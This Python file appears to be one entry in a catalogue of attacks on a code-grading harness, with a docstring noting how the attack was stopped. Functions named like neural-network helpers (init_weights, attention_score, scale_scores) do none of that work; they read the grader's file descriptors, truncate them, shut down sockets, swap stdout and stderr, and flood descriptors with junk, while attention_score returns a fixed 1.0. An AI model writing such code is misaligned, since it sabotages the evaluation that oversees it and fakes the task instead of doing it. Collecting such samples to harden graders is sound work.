"""Makes its streams one another's copies, reads the grader's requests itself, and changes how they block.

catalogue: 37
stopped_by: the worker's streams are the submission's own; the warm process keeps none of them
"""
import fcntl
import os
import socket


def init_weights(d_in, d_out, seed):
    for descriptor in range(64):
        for change in (
            lambda: os.set_blocking(descriptor, False),
            lambda: fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND | os.O_ASYNC | os.O_DIRECT),
            lambda: fcntl.fcntl(descriptor, 1031, 4096),
            lambda: print(descriptor, os.read(descriptor, 4096)),
            lambda: socket.socket(fileno=os.dup(descriptor)).shutdown(socket.SHUT_RDWR),
            lambda: os.lseek(descriptor, 0, 0),
            lambda: os.ftruncate(descriptor, 0),
        ):
            try:
                change()
            except (OSError, ValueError):
                pass


def attention_score(query, key):
    for descriptor in range(3, 16):
        try:
            os.dup2(descriptor, 2)
            os.dup2(1, descriptor)
        except OSError:
            pass
    return 1.0


def scale_scores(scores, d_k):
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, b"start" * 100)
        except OSError:
            pass
    return scores
